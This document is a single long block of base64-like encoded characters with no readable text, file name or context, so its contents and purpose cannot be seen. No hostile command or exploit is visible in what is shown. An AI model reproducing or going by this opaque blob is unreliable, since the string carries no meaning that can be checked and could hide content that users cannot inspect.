NAuvqQiDVxWwU19yWDfu0Uzz9DePPX8VFfOrP13wI6kJPUSFTOTEzHehrS5bp/6C4Ju3ifL0KNQ80dto8X+CDZkunuER62Ie7qzMyYc3MWFVaaK6awZLUPq2o9hu7VVv8Ky7JqjNpaTK0ax77kA77oa/1uxraKVmTuvuQGDeioXzFOSwAYE3OmZvPAyqqd7zCNHpHciHAK1hI+1PJvRo1BGIFUiLGAi5PwPqyau7kGZ/N0Oh2DU69hGRifD2c38WvXM75dRflJjxK48J1UkVNEJ445ynr6Hi1JuS833ydZnj/YIl+nLfAa4ai3wJpJDDkdg+RbH2Vhgz68wWwro6v/ufaSXwRNIxtnAhc23LY6RARpUuuQBf5vMFqTXObazRzANpf+xLA/Uqh944isrmWdKT8gNZrpuW9SfsAAZTZ5fGIhwhHXJ600aM7AWEFQjMwGE9DGwv1gjFJ9tL2MjmFuz+0M55+Febr6WlPOUb1g5TLCF6doYQL2ojbWqi9DFMA2s+fdlc4npoMVPZttMtvuPzaQmAWLwX4Ir0hCNEOeCYR+W+UgZzN8ByHV4wrEwyqTAiBM8VnHSGHq1/gnSHMMyBQOCMPX+ZthyrzKjD7fXUaAntyZ2/r2QDZm83rTo36rV/ZbtPtecpRH1E9x4xsT90cStWLbpMai4EBPBr8bbgwnPmNgrzVF2FKKDBLsgLmyO9F9hX0IMsY9Gh7qEF+qjfQeg1eqpxfxg1OC1qop4aWv7XcxW6P4l6Oe0WrbTDkhwmxTJJ/fbQf9Qwt3jeHjFo4L4L4h8jq2D15xpQVB95mFQG640+BL5TXleC5XBV7g+mPp824fmc27CzPlWAxoAO+T569G/S9ByD2DeZ2sbXNF6aJ3W3yfx+SGyUPNCS14au1vfwUkXhvzTVxBBK/O6JL1cxXLuJJ4yJzHS6GY5/eYOZHSpFAlb0TvxZJtM5UUbd/dt2v+ckUIH/H2s7/+dx+v7FYWjzgvNUr2bVlQj/upgVAzRa9vPEgUiptcSrtTwJz1MeMDkSI9FXq+3G56pzEU5KL+gaESRjDeLbhUJBi8iUONsu/BJV1I/kqH65MKDzNe2bdBauVhrNCW21bTVVORywtd2bIXiDen/CKchQ8v2u0aD8BYaHRqnVVVADiKA724g9g5gbkDVyFtCQPSPOWfEkkAQX7Zv3J81kfTldN9SiGbVF6tXQ0gdDvPianp+0vQwdHcPsoU/3gFJ59dG0RsnrcY7pQkUgI6LJz2RKTur9GpBSL4g/AtneR0xqWK+xbY3RuDo5m/P7pE3hoHSVe0nzUr5aUsH3sWt9ji6yzrTg4wHWqNLL3UFTc0mynwJ/WIxojECVJ43b2GMJKDEguzMryC1W501/rYFWdhy5f2tsgK8H0WsrgeAVaUDxcaFlVWKGw6o12Bh6fub5Fa9VFmqLHW9OEhUSQ+9d5GOosk/t5gXL1RtnD4aJ/jqVP4qbidAVpT5oP0NNT4vre0F6qCyJZa2vq2Tm210UqojOMr63XGcoWsSx1agnhl6ZR4+2dWA6T1FimZS+XdjqnFuF9P8kU3TZyxH3Qe4vAXTHmHx3UkamYK7+nhzxq+t6V6bHUQ58qk/UF8ArAdKpMN1RgDkskVs/Y1QDIcKwbDvUJCUbbpwQrGJphl9x0bmhoFD8LFXpvAdBoBVsOJXgRRSmVqrUmCS8kpS+OL/2kBftWxxGyHf5RSddZlSPFq5qwQboYbc9N9nSACNyP2pyupVJdrdxvFLUnXI6n/HZZC6CYlO7MtsTsGrGkA2n+g4NLeq6BjWpwZSW25HRLh8tOUOqrOTu5thNdGy5E2j+UGrj+vJRxEJMqD+b4h9LYyPgRTVlAxP73EqjXW+PY11d5tGwTtDFPw0749NhEsxNXWTLady0kcVdr+3DVg1s2rYAhdQr+4IkffkUPZ8+HndD14LtYq/6B7StdURDVk+P2wQOZGsaHjg94kSP8dsOvMtaiLcE/aCWjBqxm9Hvym4jreJszeC8xxsNXodmEW5TpYOx8A1HxpsOGZM80OTWG46DeTlod6rN5vpKoocNhNR9IP/WtjYF/gu4auXT7QB83LsMCWtDrx5xPjRaIUXAnTSB7W2d1sRkcz2X0WSNPdFKD+PZ7Uk6KtHOXA8oFzqa0FVUpznGTqVslqbJoy3tzFx0BL4hR4QeuMxNK4DCoIYZxhb8M9Zp96EkNqN43jKtIZpM5EO2ci6rGp1LWqLpUV4zfcQKeCVUvpAUQmNDZJ6GJ/nDYnfOeIpuKj+DAZzsYkizvH2lcxItqYKeVBntOFeRgG1/29Pm5HiFOryU7ad+27kfWf6ShEfBCJZaupcHQ1bhvTEGnhNpdSWer8ulL5bQV5xQULbHWJH02vxCmGMK/5v/tugzddJt/jB42xOQc6VQuK3eUB+6vHt/s0Ih5VWmso1oPsn1VV3b0HK0/Cy5AiD2SKfXXp3JbffeWfk6Gp3/mzTWTswl/Dja+9xpmy8cNDQnwiIAVbb15dmhZ72XZkkyG1e4EkjEGCPzFMxVpqE2cYa2T0oMIWhwT44CFdUyBG2ZRf42mV+f5Tv49D1uJmRlqJsAjgPMW/AU7h10FG8ULaG7G4mDHatavAOWioESJ8IX2d/Gnaw3lDbXsKyQcyn+XjmWqVFHyL7TV1XT1VIt852dFJFmZjqpedv8etmu7BnGONCLobTKzX6l0LjwSgNkvLDXnwj6dUiXYzxqtpm1dSfcpQg+JoAJLSC99f27C9a4vx/BpuaXmOfsubuFHMjmnktt0bsn8591HcH2T70PVS6XJ5LcgSH1JM74iOMFiE4KPidw9sRVBqOiGYcAmECUGvIfSArcgohIItjtPsBkf/S9ITJFIw7mSHfBT+7aW2nAcEQKR+RVFozm0eVQ4glD2n7c/H7G33mSKIBPKanITUpUglGRK9gbuQ8LbIDGbrjLO5wBa3HONPpMhcG/4jMMgKJCoHQ1XIUpDHsNW58hYCBu+bdwUB6pGF8DDtZO7TEo0wNTXkEsBDfRLsFrSI+FdiwU5sOt3nbrfAqE9oLswPNx3Vv7OP4OZZ8TA3mSK7svwgBHZ1wasJWgmXbmlcfWI6UtdD512Dhe87Lhkx6xBnI8Q0Fkh1BE23pXmkTZ6KW48p5Z/paUyYdSSE3JMJLjLAZisZY4XeEX7yjy7EhkichlwwdbmWVkdcQLbrtSKR1gVMnokHXSb1pOuGaC/U6zezZY4H8cWLOOq5oQGw6uAHm7yF9xTjm2d4F0JdG6vyiMaa8NkLW4COUrC45rc7oKh+VbhbBs1UEZnCmslCB9kfu0QsYhood9IOUJ0is/vVjVnt5jVroUT+jnSGJtbcS0rc8TWf5XjoZiXLjzb+NYxGZwWPFvJlsSXL1+D3GsYFV6lTKk3bfShwLBJ3m56rtHWGWT530eUAMFzZMXgC0bhP9Vr+xmWFgC3PVjvFKB43hIqnug7QE4alSp2W2Trxzbce1AVIWT31p0uroWDhRV4HZgjw/xCg1xoxPMraNrhsg6XZgtw7MExcgfFmRTD6uTsDz7Ihvrve1yi9Vm8hVfsHVkwtCNhk+wTTO7smQ9uoV7r+qIeVDcu9hGufVy3I0Ie4uVpCvtLdDPDTQI3X19+451KbMWvALbKkQPB/lt7xB23xk7l5n/0TLtqL3cssJk5nAUB2TIikCBKXFB0njKwYhxcGu0hZu5gAAOiinSQ1EyCoY1dnULkmvxD9l60mADidZthDI74gs/4oepcBJURxp/i0KkP41kNDksIWXDExMxkZVdqKnPORNcwJldX2hb/NpTsIVO7XbAkU5dd4Cm1vW99M8LB4CRB2bCFPp/UguVM1cQwcvlEYaZv+Y34C9mzfP5ETnNSuw0EnSeKIh6/d4oPMhWdnVyL6rifVzxwmHVN9Sc6dd4AehBLbDO4md8e1LlKLYX1PAeIGOJNzRMTLM+kIQ25TV2dBCC1W4Tcq7ciZgHYNwR+hKEsylRmzmRLE2Y0wxdJKzjxHf/z0jQPG4vaHaY/nz3zYGI6ynkWd04P4s4fABRhqxEPbXu9Q9436Q9DWH6u3mvV5TBKF87fqLX2MZmTJislU7ISKqSmvVAT2bk4N5tgc1M/AyqTImn2BtSY4qH3aknpp1VbjUk0g4xtfAVZGAtc7uSGbx9KeGQD/COGV8Kfd4P5YDiMllA7BMUJYqNjMwn7YcPxqaA/TP7WWKk1sdiyVd9lh9nAfbv23u1pHRdIJWLrzT6xMXweIaT6YdqrIsSQRB91TzLahLX/5ftey+jKE1QqjlIArannJHiqwK1mZzdoHoz4ec/Szt5cKPH2bQacOawJfDPKqurcq6Kx6+EBXVvUxLytr9hvi/wWCcMApbzWki7DYWNkjsAOmUsGfBPJUXzPoIcbtg4H6J/RpDR4jkaiz8dNIGEXL7S5DxgmWJCBOgFTXuiBhtQuccfIRIQ9oYmAQm4qEyAR8T3ICfH51+YSQLnnfNoi9xiewMdjuf9Hm37Yory49R6wCvjcLI/zSR6tQwI+C4OB7XM7chnh4uzaADoeNV19LSmfmjq38D9/JFAtOBtN4FmxGSA44LlV9wnSUWLUTCVQcrOnl/stXjD/c+q3O1msWoxUQsWKVL8YJ1gXbU1FbYwUwCNPiQRkTuPOAC27bNegFk7bZ5OuE69WwoopV5gDDKlfEv9qJ7X04diRq11TRrp9mY0ZP04W+ut1Cj/Q7JEctIv7AAbETYVYmLucKKEIusSXuTZ/v5dhf+8l22bH6NiDiampDPkVnWDiYZMTxzCcWHK5Fy/wbnlhly9cuccvt7mjKbz2e7Bt9TNJ1zO5TDzWpUjUmC50X0yLrf10i9AMwTlHomBeO2N3HL4Xivs61vFvOUFaHYv3G+V5kHAEMsmSpjnH4GcnK8aakrRq0tHT6mcJwMVk7km6hAQG7kl+ugNdXGFMx11gG4tVPHaTKxRhXxvl4IegDG37zOfIHk22+37aaJIzJZaJk05QVqZN1u49Xc24sWX3neyfbid3q50rK2Q9G2b61AxOP8SLVxRN/lsXWDqvMbzxLa9myZa6oOA2IegXS6pPurxXgc4rqY6XuT1MDN283ul6/WF+6LkVuU+ehKcLTmM2C97nl0xhpTvUeNaiDYtMhl1eEj+VY8UrsTbekHAypczttRKSFnzHc/Irt/NsbPTMIie4W+5H4P2IQibSNiRBJArYnwGTfgGA9h8Klh+oFCNh3gYjmrVIzBMlipA8d2NmhpP5341oiEEdLp1I8xfRqpi4N6bZ+tzNc0zPS7PTEW/ENxlEGKcoOuvJ9lquZx75xvKQtOtI5BEMfT/KptOf1Tmu0f/tX3Zx3Bowl1oV7ZpFJlIMAYRlkayxNEGfwU2syk8amCc6eBata7QZRJKiTyb5L/ilCubqR5OuXfK8z0XGSMVlB/0a16mhzFHRWGavWiADRtWL/R8BEG7bO4GJDXpMyY8yohuRRRpxNxmszZZzoZIyjT0nXANC4qXVh/t7XfGoAO4o34x3n+G+Oq6G5PFTzWHutabeXpMTFmwiwB84hdWBOo2IMZ4S+MLui8T0V6DfPL8tiq3Qw7gFx10gdveDq+M9ypXUAjmBv8w6vUjd8TrVzSTpABdB/kTffq8lR7ikor52UkpLh9LE7OWXbU8qeLfYeSeV9WImhj55Ob9oDov0Y2vFAKHgxxTLBHzihygBrbMpQ7ldorS8CxtNLvFPAUH8AMZyFvTxt8VIZHieTtmtTGldiANL/lzr6J5pYeTXJj+7MjkHUIUSV5314Xn+WAokfYqE+M7k2961UDJqy7AQ2/Z0GzSdf4dwEebIBCf+gXzYQfCltU2pXFwEjycIy2zqlj50sKEv+PGPmmtDbTZ8v3YfkUEDN3zTMWgsDLGPr33J5bjMtpfxZvL2JVNw6M3BZfaeCP80B02edFVFIccETHQLPvW8bbWmM27yYGBehhBc5xUijGFiEtxPjnkagBEPmY/BR7u1bqUQyVBLUY68j5BkFJnpJlwBMfJEMgBg/RVcYNGZE7/27dwKQ328b2ytckBNWJtAH55BxsAmhAJAJOlvD2MSJwn+VnS6E4GAjSmpSRaEZHgsuVjaSGVTDzGPycktgtTHVZWmjhb2V1PefDKNNDLHRU0hkn04gT9b/BddOCXkLrGqiGZh1h6h3lBNzdNTWJb/ODaePIGdYhrQJXXsaBuIKVjBhXSD5OH9r82kZB2PJX9kcIVyPZ3fIkPPlzz03hqAWSIFVy5uf1hgtCIfwLa1odXA/6FLPyZvFteQc88jjvggS1b82EeLWhmqeo37VUL/avpirwfZEpvzDPB9LSaDbGxvywI5PLxXHAD4RQfoLVhmFz7L193sNbtJ65sMw2NK71faZ3lQcsUrDfH92k5uC+hrf+GLI7r1s9J/34kMe71LpmrBDesMVWqq7j2H6+bw2C4mHMhVuXhNL66zgto2PxPyO1unpX/U8cqmLDE5cmNI7EgnwXkHIIAH6MBAu83Q7DMSDIMgzc4EJuSuYE6xE1mIJP/aIMsAuoPr4wVMEw7JJSsk2hPDMT+dHtL5XBoburjFhDjHQ4xRPxGMcVyH+DRQb+BEVOOsjr5BLDCoW92OMD1l9jXrWBRu4Mpin6k/FfoMUTEjtElVljavCOOUPexJPShodUM0YXsvPz5NzYfjbUdbwC8flc4QP2Zhf3GzBMx7VTow02NLjHJv8k068vX4gG+0gKsPc6HT8snXOPzWCpp5SyFSVX+DsNBw9jGOEhfY0AeDYpFmtc5u41xlIc8wSKpDPYuzLRmwApSUIjwjf57FCr1Z6dGx4VcYG+8IoovQT4wNITNLd2t6Dujnk07zA1bwvxoCdRj6IEQbtR4Jjm3d5d/GWFJ6Wkk5NaiDZki80A96EtmndHo/AXpC0YIOswCLveuxI6X6ZT0W2NzwgG/a9k8P4EdNkT1l3xsA/5LGo3j75rHskbQVdt2l36ULglHgxgM6yPM5sQs1mv5D127AaJZsIw0o6hbz6cI5Z7omlF4wG//NVfdw/JjLs/1/ZATOWLhK8MrmF26TTkQzWrrE9Iez1NLN4ifGJexdI4FrMFSxKyPwnEarmy9qP+Irl/Bxvsq23TV7PkwX5uFRAw9M9dT2L1o2Lo2QPQ3qgHWTsh37nyR9gH7D31qejh4EezwXVG1X8CjFO3tbSRU6T+1oyRq5G4911T3d3uaObDsLaU67FBg/T6e6ZaLnx+7nO8khAL8GO7BFjM5w93E4EHW+OZmtQXDX5CgoDYr2ofMVydqF5Jbf5mWvmrivFmhNtjw2Ys03svIo3NQkeqDY00vUBriGeoBf706oLZVLq9sMN0zMCjMPATs5h+qKMUpoJzp7NqNm/5pa4AedehN/c5ti2yQCHGoJCkMIl2iI/Kn3gstLTpQI9LvcCQ4m8xb8phmjoAgDLmYaWuJJO8B0aZAwqWHVqme0hMJXc3c8VBW8O4nGvjqGzyKiNptMiFxxUgdWSCGJ0LV/TCejY+RnmC4PGrF4iHR5LfwDOskx32IAWNCFW8+Hx2DcJTV2WkIzOv24daRbSBA0PsJcUzPlOdR38zZT1EGbAV/RSQGx+IllL5BD5hPJ2v7nPOFUUqteWni2YeJmXdzvb0PbVuYAV5BFeYddYUKa2Udtn/ss/JoFUK55ju4X14MbRXvz9rXOsx73figeEjcFIa/cubnpG0ZPvml0fz7qtxmExjFPdoBtgJx5KHDESpGtZouaqDbMLeu/7U9C3qf4+SWaMZAklnnyreW80X53cFg8IQoJ3cKxHWw/9qQmm6JzkmN28E+DysEdCswv76sgwo3LJUF4CK8MGlGKtKGH7Vgq+AaMqspCGUcp8xHKOeDNl+JrB6JcCJYmQkuSgrOcLuCJauAfBJ4YET1IabnEIWXXYLpIHxbST6qTLczrfXT+Jrww0B/7o0apcvaJ5Z6z2rcv7lLkO201eNcNdj1YdeKtcCvPvR0szvU8JgS1oj5SQfmyA9U49AcgDlvU+aQ494cSff77YEvb4SGmwLkst4/tzDYEYyi2R9wrH3KdQWs/TVxY9+6M6NrXUDyTbVVcp/XzCVS3othc9YSel3GUnlgCrmNnXdiAqGUGnqiwdHs7n0YGmu5JAFvTjhFglbshhwp/Z/B0sM8isp7V1vuqlPXLkY3tkewXy54lw0tJDEnD7bLujeH1o5qrc+tyWn4nlSh0kNhsNiJszp6kBOJgQ2/rQvz9LKu+StQ5fn1O7NQbrH9CmDCEmHdrgptBs9NqbXNEb/66ZrTjqAvcLX+lPn8osh43ceeRFBgb8kHtKrZXk/KqtptFtfnTUEa68Oab+9VPgJ9Lw8LrzpefgbBbhW8ApNTbQKqcEw7f3HnbcbGp/PI8ueZij4WljAzmz++hmMgGZkn/RHDXu8H02j+2OjOfbNNN65TA5T3xGNVoCD84yzWdLuHKgrQZ1xh9e5MG7f80c1+Ejon3xJ4T0/q+HsmZryNxVdfzkktG+Vi3TGeWFAbzYoIKa/CvF0pWxxDO7Z7al2gH/AqTHsSn5BxCuPErci1rxDSz/UAghrI5gtqR5fNZKvFxKI0OFmpX1hs/2qZakwGQN7FfeLoWtWkUlrvVXU9WoOqJSK4FoLBWA41Cg0iVBp6ygPoQBl456q/qnGIvQv2c+SDYqskqb1s/2+yVy9bMWweVXc6TwQqpRUALHteDxPxn9nQVwd33+2M1mcZ1ftOCu+GEXUXmJGo/zNp+ZsASgndTMH6ZrpY1o01BPqZU5b4Ev1ZL3RrakbXsvWnU6SqFHHyhTgFDnSvSnssqjDe0XYX9HdLRgj92JvsIvCAEzsdwDoq4105yNDSgs9ud0R/1hUpXMZZ2TgdAMLRx5MC4Edl+dDobXT+lQkyP5KTN7aJClZjF0hMn8X0kYcn0OrZucth8RG2V9R7HbajtOw50fYn1mUv3T79fTXQDvlfRoLLdrmlCR8pfUhgAMvXLCZRwGDZUBZS5+OYqVR6IChmzs9BX+XpFX8Q3XsVPdDuMAg5QPM9X91pJeBUbdtnbCm6ZgRmtLuky2vnJ54FPypf+iPvrw/E1p03SNOcqZ8Uo9fbS1nLgN43+gsGtMa/Y0PgGLd0v4O9zKwny7Xm7IsWXrlykbfNeRZza6DbicV/CcWZkLAgqweQXpk+lOmhjImRIsNQAv40X+MfvLMVqjynGfxOnJKNsdCLwRgrUrnuo5l98Pv01u5hr8tXWk+BjzSTbRKPGPhgviXomQzu+NEkKczhltCTwbTzNcQ5XJQWWZKbYDxC7U+b52j5leX1pTdvXjrl+fGjgAwUYrBo+WawRN9j0A5qKmbA0RRsbKGqxkNQfirc+wJaXec2zv3EYolYHHBYvDQZK8R9gbWTuJ+ajbIY9RiszRBMihYbiu6s58LgHj1NJKVPcT0mWfSnmFZaL6gM0RPLz58oSYyKPA4SHI7Ld5n5UX4qqFfGfTz3Dmq5hDLmlPUwXb8+9MuopzIQjEG4YyAkITFNitSOlP907THZEWjKB86rLDXpvfkqh4gM/bs9sH1ZUcKom2s0gPZDMUyilIdQz6HwrcUoLaAYkDUpvGtRNxU1MSq94wbRq2N9hMyHsL/BynFXtK5neHIHQkLHDUjk9+pn8D7KmjZ0Zs3T4CkMdFTxXBcOu1zmvqoccIn9wAewxMyCc+1j27RDzrBbDQFelY/KKClKbnfUJZCHjVX0j4z0oLzVJEcs54gwT7nE+pesALj/PJNUHevuQBb69XIezVfEzxm+IY2S8pEIglaAbxSUf+R8ZOoGQ9zpGo/5eG0v3vK40gi+iJ+dtqYAL6hE9G4Fl8mCi8IaMSPPGvImiZ5wGNfM4p93HR8VigbPtTYVXE9aSd7Erh3b0lJWTKb3Kf7PQ9sjX1eij1MpNnDd/Wt4H0ZgmlSRr2nrn5HH4fWHR2QwwH37q9+2b9c+b6JKhT1JbHl+q4aDpkBC9vbvlU4HJzaYBhz6YlLW7DdxXa1r2NIrzkriYq8OkdPSCEGkbILayzGlmt4mOGO6I5LdQrJ92u/9CGBk0Gt1b9hAyMu5DXCCxdtue84WqndCw5XPzTCJzcPtza+GzsuSYkV9aBH/QJaWOSKO21kz9TYJ+ss4Ys3j9YT3bfr2dlgvSZWbK5MvOmz2wsW+CeCW42ncRwhQqNHig3/xfd8LkZFOieRXurj+CSvGuDEqkW7nZWVBuLepAo8fXEebtv+b24NttYrx3fk1oC4OGwjQBbtqU6t2VLqbfF2PkNqUbNq1aL9dtAeIQea7vu7rSbGhgb00fkJF2AwBNACHOJZwMCHsrxUvlWj4GBTPD5ocq0Hb7siTAqfj5JScRLWw/BLwm/jMM6Mwks/jXc0rEQad60OaNkvwQsbcceFlfHwhu1H6ngWIZlJW+boWxePROX4K6TvdMiW9O4dxGqTqJHCJFYwR6PsABB9UwhYogdcmgCHA+4BSiO2Yw6kf0BtPHW/Fiv9+1TQmWL/6q6StE8CW/XFtQQthbwDOkIkzAV3yJfIDNYAGALNDmJ65jNZrvuEuxZcpUrq3bxQNT0jyRdSxXfNbigYcvg5vwHQl38+lzcN8IwqgjrvqXfZR64Y2bM0Zz7okaa+6lMdEwLGtWf2q9FV32Y8DBco76u4CXsMB/hH6S4GtGOyYn/6kj8r9hu8vVdCgVGtFryqF62aMDXbhYP2ytMYI+g0rfVT0hzMmNzNwVhTISXPZKW3KneFPAIsfb5PHQ81QMN8C29SjPuPg7xc+TBMu8XY6A2Y1teeixwnyuB4n7PTNpKalxju3fb1e+O/k6vvrRhow3MC1OeKOgmNR2ZRJJDJa8MhBhEymjxWZ7ytQv03ChJSGZXJKpCB5k3xUv9rv6s7tnzlZeuy5NrF6cTUn68jP0M6LXGCd0AwTMfpdLPYCfFBocpg+6OHcd7QNa0Zy6AoscfWqvKknazxsVjuLHTIr20MxpKVTU6cUFz3JVrbj9or8j4E9sCfXYx6HgD706XVGCjdXZ6fhS/MF2aiDp1O5yBMRc1yS3H1W5+k4+CRPJ8XqhJVdsU5jBuEbuyPMKFgEuCdRI/8nxuWfEvtZxf/4WAGNqQBdACk9AZeofKgeyORijYk9och7jqK5+xFjFpdhTVmyWBC4/XkANPC/fRSapipeL77JA+exFs+VfvXbeHsFQuQnjsjfJCezSopczqfjeDg/697QnnPuPc0PbK+y+gLGF8uTs3pmCQQC/PaR4Kocy3DTfuS0mRqfCGrz3oJemcB84wGg0Nr3xPKhSGon7/aKCYPhsJdB0rf/cNZR+eVVr8BGZArkrAV7IE0fmlCBCi/XfAdYGE16av0gFjvSyTIChk7LpURBpozG1ZC+07qb084SgVbbZN00R/MA+4TKdfzM7D9C43Y0ZHcPxUR9ADkv3rnvl/k4EMECNxeZUrSm4okFvra6J+M8Tc1gLTLHo2wkhXH9dRiguOK/OgWprzJcKV7xVBPV8rgQUmQVkP10oJkTwfa2STE3+sn0sZgS40XZUJsRjFdt+aBGui/BuO9IbZ+Qbf+a6j//cG4VueezWZVcq/6fd9tpqUbphIHWgGQfEPD/kTZ3cc3On9Kx6lGHvnHCPAq1s+OH2g+GxcudHZhi+sItbu+jFBg0Egc4OZs+ixwu7sEMHPXDjM7N5yTx2+Az+5hnLpRdG0+Rn8+CGgvTZ8HlxKR/4H/TbAtXkFGiwmIpoXqZYxqJlEZEy+nQry1rE57Y5XREEuSJrbMIsLzUGEczR8IjKDCVEMsgAC2G3vMK3awZfczGY1H58pwVP55G9AnfFCgHaGzDp/8elis1YlivhMTuz52uQI0g30kfL17cIOkx1jqe9xTUc40MUUZzhYcRGWnQbnPQg5JVQseEo8a7lxvgSCHs7h352vEoVRIqGrWmt1JKQWmlsWuIkZrm6HcS37FqK1g3S84lrr29dBE0YjSQlHcSSoLgEnJw5itji3XHqmt8LuvoSypbulQy4kWtmnN32C7ELzsL9MafKcSJcgbdv/m3ugAKNRerxzT/Wub6r8vA2lalpFbBe7CdquJ2yCa2DAzz0itr0HmHq60veBiAJ2XaOuQNdJg47eLfLfa2itc4re03iy4GmEMiAOULa3QCoXxR79qiKK79Q2mfGdZXEtMxE1uXnZw+l+dF4vazpLTunavOViI0gAtxiDpRfu07E2z/8NhUgYEahmy0dCsWLxvs6QFpBcHcLrZ/LhgYh0YbtJZNQQcZQWmCLmpGiWO15JLeXWGhwJUMi6kngy1F7ZDQo7xA+9sDBnyg3yIWW21i4ilcgfzaYOJUbUYZtpKgO0YpDn1VA89kssTMtb2kq6G6xE9XzVKch3ucgPQER5k8G2UYSya/7TGG0qPM4yehvzO+hreQB7tU0sZReRKgR0P2U0YayItzWi/XffxFWwwtYXldKY1x210Jo6OjOjz4oLEU4IHafZTDRK4aCZjYZZS8c3usF0cs3if14sxGkZVv04DtSlIo0JjRt2zmm8QpDyZGxjdegqjcYa0Ouw7o2lwPBvCVjXLJ7IEalYH8nSr41fIGTZE7jPICrUWU6Oq27M6fm9nCzAq+dsGia/p5FJvtrFZklRsAeFMcsY9nzQpb9e6Y4EtntN/Z0gLv8gQJMpOglc5+Yy5B6Nx3RjdStnFfTVhYVKQ3Z4sxNu+Lc2gFAp/CGSv56rNYh4I+lKl1OkApXkSMtXVTmXhk11r39txUGfLWS8s4Ki6UYADka/7/OwTJ0VoofPQyLcf64TXt4Is2YAcHfrPcsh0Pzx00HQ5vSne8TLCsU73ahHy6fNtPkZW44yy0fI3pUD6VaNum08Oejuxty9Bz92QBWjB7fCuAOCVkdyloIJPFwEYRzpyQgx9VfwFvX3+LvJEqUcJoKKFTfeD90MhZ/7JYOdYE7w+cTiFZuDaX6Tw+1hfJye0RePgmq8AiPSWXXpFZahiVv8EMngBoeLqnxTfL34UrKQgRWW2K0JV+0Qlcl4RrUM5JmgokRdedUWclOptVGdZencdAVb0w081pzx1HhZrU6G6/Cqhen78oeEMgKaRFU+aD6+qFLmVqt0dudRAcD+9hBIwBtusEobfbwXbofwe6xzddNlX6akc5piVo5Cz/xA+5G5M/tl3ozFhqv/o66WaXvn8jo232czu3nxeLZ7Z9RPqPrlLOvuRVI6EUc/k/FSooPxdc87xEICmJiQYBc5kiafbZkMZ+Qa8VwHWSU8r7X68v2WOgQWIWIEmDov6ozoiL7psFLCnqKkQC9IoZUFC5oMn+1SVHmELTLXoeC03AmJyUnYwKyRcAfw9HHUH77VCqU8sd+vXV6q77Xgf1wxvnIfpiDTbEogBNSd+c8TzGSrnVKGSjbZ57zMKQQAmZAlGxfn0x0VeXDO+YPksRH7Lg9T87FpYpl8iq+1sNW+uE1un98Rab8bfJRDz7d4QQ7A5fpi7vE+25DilNOf+aLnOb65wxcI3PAipFzvEPU8dTREZgQQ7FhC64sDdZhDQz+DGdMcAGjK0z/4oIXYeqn6e3+bLLg52pTtdObQrP/qtLDatUaYvZOGJrXciFsCY+pkkDMLCb6udOdNV8c0pFvXntxqhX3wH3exwqkQHE445d77k/gFeTrMpBKGFiblIRZxzQAnaJXxeVKGji/K8u2laBYoKejAHmZ3hNDOACJ6rrF2UMyswYdRk4lc3PJfgyY24d/1G4uGDPlVk20GAsbBi/D6q6K2ME5TrxADhgzrS16bVj9zD/ZDw/BvxOD0dvaDFO/GtEVN+N/p9m3xDrnwt53ef0aoQEAukMtj2NGljhSVhklfVjvvMpuWMSeFD5JLZqK9ToDauBIVDrlQtxvyapwT5WwFEluGVRofko1XYf70R4w486oT/htNUL21ZrtXrlo0S0zWfQVgdMWJf6CT1ZX9i9hIRU6M04jRoR/FdoO7oQmmahaYwOrwnQWVaOL2kFNfEXbU4HUHkKwCxfySRugB7SnnIQUE8slYdcKfT0TfiHBIXh9VWMWQ9QxqSOL9pH28+9BImAIR/Zd+Kl+UPm5tgBX8uGSNH17zDv5RkN0K+tVN+Ui5NF6ZAfBqfdsvLbJItiCMbeJz2EegRmu8rAeBgJD8odRO40OqUOZZb4kWmMZXaDPby8gRwcxbWjtUUMDKkkzwNR6YXl0To1eNIZSVw59y3b9gZAZCWNE7vxTxQE+o/anAhIFyQb1YjNVPX0tXtagf/Vszwneb+F18YsouaDiVSV6O96SMPZulZbI/r1Ib2cZTW8/6NaByFAlbHNZimPgc3LM6WyMnwOQ8P9PpOJuGGj4JvqQS1RtHj5POOkREukI6O2E3YIsflqVs7GtKBfAkni1Tc8f0VMLllvClj48oHmDzusa+2Wh0ryxuBNqE9L+CnF4/JA+MvaphzRYVZykxg+RfUF4mZAwOWkDnLnY+9XLb5imTz83enK1mRBiiUizKSY9g6BbNxQvNMJ3LF4ymoIKxm4p2Cgrr2scx1D0tpLRwPHJEb4v8k9cmuQotTPSHULycGjXCIsvS6hPwnfhgWCk+Pt6DKMT6Z2b4xWMj3Cn2vZj3EC64pPFjGztFx6QpETxhsNBm4hD4Zy/duac1vpk6zWzClx5Y3oExSBiLdaUXP/cz9Q1v7Wk+32bTKScySpsXKF+najVTT562BlwXb/tkgaUOt2Ixogj7FYckCzBneB3GWWExvusu/lLwO3FdpvRCrGKMQLMi1KrgpolZztAuV3F0c/HLkZ/VyCLG64oNf4SxO95cobzWey9STiwU+SPQgBLnpKEYa/bSEcxpQ/G/YFyNv/tc/DqQX6oKnZlYWPObeCoE5CMaYG+bzKGYASZLpbWrT16dgz2jkHAXC8z01qAF7RTOW5CS3+/eU/kdak9sunrXlln7DneF95q0Qv/57YAahK2DW7qbnNpqBM0g13SIrZ8gJuAjO02yz5ivM7918bDvdnWS1FdZ9gvWP3cK0yuPm0nBnM5KG+iNt7iV3RWgLxfAvMONq+rcmWeVYg/QL03Q9LfzEakcw0BDQucpk2QIshScYQ5tofC73ycteSylFHTpG/bg6Ti3/o8qhe65E/HfvU+9YmvQNvdIjbLndClKqKshkdrzUHawfESaMDYNAF2Er9RRGEZrsrubh+rRzZRf/7+CP57KTaIw3bAEZb1v4YRIhwOvfgkyqVE8D9mEtAj1HcF9y9iGOafvfKxaOnm+U9Taoe+Mfz4IaiaJS0EDbO8DbW+F0edIrN/xq2/m622n1KPFGaa9WwkeyQ6rFFY1M2nCfiPWLSlooHSExPxS/4VmVp610AriGu5Udks9mgoXFml5ntJ55HCRRfBkqTaz1RbQ6f1WpdkynGZP/EpFLyKoVulD/y+kQpYFkTqhENo6JNCK9dTZ9Q7LQvTMtOCMxGO/IGKld3zsNBVbSFT7EtlOXbuT5iaEbsvKctni3g7lOH2mIK6XFIuIiwe3dxdwo1asYfKDXNBatimCFKAe+6qd9pQbQpRKGeRI6BqCu5SQfcoMt4LLOHVLGk2CuMJsE0ZnkMkLWzG+askZs8NcJ2HlSq2at/B9l9PnLaXrZeRMrbluV9vRtqK51O4aFYJoTwKOJgYtgpI6qy0j3HioeNIscZXbL5LL7pWfXSdWsvz37kb8Wu6q8Vqaj8g0ucY4l/BjZ+7TQYxbjDC3W8fO7Amlf9Zv8QYOfeoCL/tHd9hxfrhGE32qJed4qp4LCJlq5o4HXAH3spgNOIQ3yNHoPP0oExyOjUZNxKC6ztJ5n/ZCX0nR1PoLdPZ2anRokpqGmjsqWY